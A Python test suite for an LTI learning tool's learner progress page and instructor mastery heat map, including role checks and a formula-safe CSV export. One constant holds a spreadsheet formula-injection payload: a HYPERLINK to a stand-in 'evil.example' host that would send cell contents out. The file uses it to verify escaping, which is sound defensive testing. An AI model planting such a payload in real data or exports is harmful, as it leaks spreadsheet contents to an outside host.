"""The pages that show mastery, over real HTTP with the test platform (SQLite, and PostgreSQL when reachable or in
CI): the learner's "My progress" (their objectives in the blueprint's words and in plain levels, what to practise
next, the questions they missed with the rationales; nobody else's data) and the instructor's course heat map (the
class's weakest objective first, sortable by name or objective with aria-sort, names as the LMS shares them) with
its CSV (the same rows, formula-safe). Learners submit the starter quiz through the delivery pages first."""

from __future__ import annotations

import csv
import html
import io
import re
from urllib.parse import urljoin

import requests
from sqlalchemy import select

from item_bank.markup import to_plain_text
from item_bank.mastery import Mastery, MasteryLevel
from lti_tool.delivery.mastery_store import course_mastery, learner_mastery
from lti_tool.lti.models import Context, User
from lti_tool.web.db import session_scope
from tests.lti_platform import Browser, parse_form, query_of
from tests.lti_tool.workspace import answer_and_submit, launch

QUIZ_OBJECTIVES = ("D1.3", "D1.5", "D1.6", "D3.4", "D4.3", "D4.5")  # of the starter quiz's choice items
# A wrong choice for each choice item of the starter quiz.
WRONG = {"cps-s-d1-001": ["a"], "cps-s-d1-002": ["c"], "cps-s-d1-003": ["false"], "cps-s-d3-001": ["a"],
         "cps-s-d4-001": ["b"], "cps-s-d4-003": ["c"]}
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NO_NAME = {"name": "", "given_name": "", "family_name": ""}


def wrong_on(*item_ids: str):
    """A chooser for answer_and_submit: the key everywhere except a wrong choice on `item_ids`."""
    return lambda item: WRONG[item.id] if item.id in item_ids else sorted(item.key_ids)


def text_of(page: str) -> str:
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", page)))


def link_to(browser: requests.Session, page: requests.Response, label: str) -> requests.Response:
    """Follow the page's link whose text starts with `label`."""
    found = re.search(r'<a [^>]*href="([^"]+)"[^>]*>\s*' + re.escape(label), page.text)
    assert found, f"no link {label!r} on {page.url}"
    return browser.get(urljoin(page.url, html.unescape(found.group(1))), allow_redirects=False, timeout=10)


def ls_of(page: requests.Response) -> str:
    """The launch token of a tool page: in its address, or in its form (a launch answers with question 1 itself)."""
    return query_of(page.url).get("ls") or parse_form(page.text)[1]["ls"]


def section(page: str, heading_id: str) -> str:
    """The HTML of the <section> labelled by the heading with this id."""
    start = page.index(f'aria-labelledby="{heading_id}"')
    return page[start:page.index("</section>", start)]


def course_id(tool) -> int:
    """The tool's id of the test platform's course-1."""
    with session_scope(tool.app) as db:
        return db.scalar(select(Context.id).where(Context.context_id == "course-1"))


def stored(tool, sub: str) -> dict[str, Mastery]:
    """The learner's stored mastery in course-1 of the six objectives the starter quiz's choice items practise."""
    with session_scope(tool.app) as db:
        user_id = db.scalar(select(User.id).where(User.sub == sub))
        return learner_mastery(db, course_id(tool), user_id, QUIZ_OBJECTIVES)


def test_the_learner_sees_mastery_in_words_what_to_practise_and_what_they_missed(tool, platform, starter_bank):
    result = answer_and_submit(tool, platform, "learner-1", starter_bank, choose=wrong_on("cps-s-d3-001"))
    page = link_to(Browser(), result, "My progress")
    assert page.status_code == 200, page.text[:300]
    shown = text_of(page.text)

    mastery = stored(tool, "learner-1")
    assert mastery["D3.4"].mean < 0.5 < mastery["D1.3"].mean  # a wrong answer lowers it, a right one raises it
    objectives = starter_bank.blueprint.objectives
    for objective in ("D1.3", "D3.4"):
        m = mastery[objective]
        assert objectives[objective].text in shown  # the blueprint's words, not only the id
        percent = round(100 * m.mean)  # the meter (its fallback text first), then the same figure in words
        assert f"{m.level.label} {percent}% Estimated {percent}% for {objective}, from 1 answer" in shown
    percent = round(100 * mastery["D3.4"].mean)
    assert re.search(rf'<meter id="meter-D3\.4" min="0" max="100" [^>]*value="{percent}"', page.text)
    assert MasteryLevel.NOT_STARTED.label in shown  # objectives never answered say so in words

    practise = text_of(section(page.text, "next-heading"))
    assert practise.index("D3.4") < min(practise.index(o) for o in ("D1.3", "D1.5", "D1.6", "D4.3", "D4.5")
                                        if o in practise)
    assert "Open the adaptive practice from your course" in practise  # a quiz launch has no practice to link

    missed = text_of(section(page.text, "missed-heading"))
    item = starter_bank.item("cps-s-d3-001")
    assert to_plain_text(item.stem)[:60] in missed
    chosen, key = item.choice("a"), item.choice("c")
    assert "Your answer, not correct" in missed and "Correct answer" in missed
    assert to_plain_text(chosen.rationale)[:60] in missed and to_plain_text(key.rationale)[:60] in missed
    assert missed.count("Missed question") == 1  # the questions answered right are not listed


def test_from_a_practice_link_the_advice_keeps_to_its_objectives_and_links_back_to_it(tool, platform, starter_bank):
    answer_and_submit(tool, platform, "learner-1", starter_bank, choose=wrong_on("cps-s-d3-001", "cps-s-d1-001"))
    browser = Browser()
    question = launch(platform, browser, "learner-1", resource_link_id="practice-d3", custom={"practice": "D3"})
    assert "Adaptive practice: D3" in question.text, question.text[:300]
    page = link_to(browser, question, "Stop and see my progress")
    practise = text_of(section(page.text, "next-heading"))

    d3 = [o.id for o in starter_bank.blueprint.domain("D3").objectives]
    listed = re.findall(r"<li><strong>(D\d+\.\d+)</strong>", section(page.text, "next-heading"))
    assert listed[0] == "D3.4" and set(listed) <= set(d3) and len(listed) == 3  # the missed D1.3 is not D3's
    assert "Practise now: Adaptive practice: D3" in practise
    again = link_to(browser, page, "Practise now")
    assert again.status_code in (200, 303) and "/practice/" in (again.headers.get("Location") or again.url)
    assert "Back to the practice" in page.text


def test_the_progress_page_shows_only_the_launching_learners_own_data(tool, platform, starter_bank):
    answer_and_submit(tool, platform, "learner-1", starter_bank, choose=wrong_on("cps-s-d3-001"))
    result = answer_and_submit(tool, platform, "learner-2", starter_bank, choose=wrong_on("cps-s-d4-001"))
    other = Browser()
    own = link_to(other, result, "My progress")
    shown = text_of(own.text)
    assert to_plain_text(starter_bank.item("cps-s-d4-001").stem)[:60] in shown
    assert to_plain_text(starter_bank.item("cps-s-d3-001").stem)[:60] not in shown  # learner-1's miss
    assert f"Estimated {round(100 * stored(tool, 'learner-2')['D3.4'].mean)}% for D3.4" in shown

    # The same learner from another course sees that course's (empty) progress, not this one's.
    elsewhere = launch(platform, Browser(), "learner-2", context_id="course-2", resource_link_id="link-9")
    page = other.get(f"{tool.url}/progress", params={"ls": ls_of(elsewhere)}, timeout=10)
    assert page.status_code == 200
    assert "You have no scored answers in this course yet" in page.text
    assert "None yet: you have not answered a question in this course" in page.text

    teacher = launch(platform, Browser(), "teacher-1", instructor=True)
    refused = other.get(f"{tool.url}/progress", params={"ls": ls_of(teacher)}, timeout=10)
    assert refused.status_code == 403 and "Learners only" in refused.text
    assert other.get(f"{tool.url}/progress", params={"ls": "not-a-launch"}, timeout=10).status_code == 401


def test_the_heat_map_puts_the_weakest_objective_first_and_sorts_without_javascript(tool, platform, starter_bank):
    answer_and_submit(tool, platform, "ann", starter_bank, choose=wrong_on("cps-s-d3-001"),
                      claims_overrides={"name": "Ann Abbott"})
    answer_and_submit(tool, platform, "bo", starter_bank, choose=wrong_on("cps-s-d3-001", "cps-s-d1-001"),
                      claims_overrides={"name": "Bo Berg"})
    answer_and_submit(tool, platform, "cy", starter_bank, choose=wrong_on("cps-s-d3-001", "cps-s-d1-003"),
                      claims_overrides=NO_NAME)
    teacher = Browser()
    home = launch(platform, teacher, "teacher-1", instructor=True)
    page = link_to(teacher, home, "Course mastery")
    assert page.status_code == 200, page.text[:300]

    columns = re.findall(r'sort=(D\d+\.\d+)[^"]*">\1<span class="visually-hidden">.*?<small>class (\d+)%', page.text)
    with session_scope(tool.app) as db:
        by_user = course_mastery(db, course_id(tool), starter_bank.blueprint.objectives)
    order = list(starter_bank.blueprint.objectives)
    expected = sorted({o for m in by_user.values() for o, one in m.items() if one.evidence},
                      key=lambda o: (sum(m[o].mean for m in by_user.values()) / len(by_user), order.index(o)))
    assert [c for c, _ in columns] == expected  # all three answered all six: class means over three, ties in order
    assert expected[0] == "D3.4"  # everyone missed it: the class's weakest objective comes first
    assert [int(p) for _, p in columns] == sorted(int(p) for _, p in columns)
    learners = re.findall(r'<th scope="row">([^<]+)</th>', page.text)
    assert learners == ["Ann Abbott", "Bo Berg", "Learner cy (name not shared by the LMS)"]
    assert 'aria-sort="ascending"><a href="' in page.text and page.text.count("aria-sort=") == 1

    # Sort by D1.3, low first: Bo missed it; then by D1.3 again: the link now sorts high first.
    by_d13 = link_to(teacher, page, "D1.3")
    assert re.findall(r'<th scope="row">([^<]+)</th>', by_d13.text)[0] == "Bo Berg"
    assert re.search(r'<th scope="col" aria-sort="ascending"><a href="[^"]*sort=D1\.3', by_d13.text)
    descending = link_to(teacher, by_d13, "D1.3")
    assert re.findall(r'<th scope="row">([^<]+)</th>', descending.text)[-1] == "Bo Berg"
    assert re.search(r'<th scope="col" aria-sort="descending"><a href="[^"]*sort=D1\.3', descending.text)
    cells = re.findall(r'<td class="lv-([a-z-]+)"><strong>(\d+)%</strong><br>([A-Za-z ]+)<br>', descending.text)
    assert cells and all(MasteryLevel(level).short_label == words for level, _, words in cells)  # words, not colour


def test_the_course_mastery_csv_has_the_tables_rows_and_is_formula_safe(tool, platform, starter_bank):
    answer_and_submit(tool, platform, "mal", starter_bank, choose=wrong_on("cps-s-d3-001"),
                      claims_overrides={"name": EVIL_NAME})
    answer_and_submit(tool, platform, "nia", starter_bank, choose=wrong_on(), claims_overrides={"name": "Nia Ndiaye"})
    teacher = Browser()
    home = launch(platform, teacher, "teacher-1", instructor=True)
    table = link_to(teacher, home, "Course mastery")
    download = link_to(teacher, table, "Download course mastery (CSV)")
    assert download.status_code == 200 and download.headers["Content-Type"].startswith("text/csv")
    assert 'filename="course-mastery.csv"' in download.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(download.text)))

    assert [r["learner"] for r in rows] == ["'" + EVIL_NAME, "Nia Ndiaye"]  # the table's order (by name)
    assert [r["platform_user_id"] for r in rows] == ["mal", "nia"]
    mal, nia = stored(tool, "mal"), stored(tool, "nia")
    assert rows[0]["D3.4 percent"] == str(round(100 * mal["D3.4"].mean))
    assert rows[0]["D3.4 level"] == mal["D3.4"].level.short_label.lower()
    assert rows[1]["D3.4 percent"] == str(round(100 * nia["D3.4"].mean)) and rows[1]["D3.4 answers"] == "1"
    header = next(csv.reader(io.StringIO(download.text)))
    assert header[2] == "D3.4 percent"  # the weakest objective first, as in the table

    sorted_csv = teacher.get(f"{tool.url}/instructor/mastery.csv",
                             params={"ls": ls_of(table), "sort": "D3.4", "dir": "desc"}, timeout=10)
    assert [r["platform_user_id"] for r in csv.DictReader(io.StringIO(sorted_csv.text))] == ["nia", "mal"]

    learner = launch(platform, Browser(), "nia")
    for path in ("/instructor/mastery", "/instructor/mastery.csv"):
        refused = teacher.get(tool.url + path, params={"ls": ls_of(learner)}, timeout=10)
        assert refused.status_code == 403 and "Instructors only" in refused.text

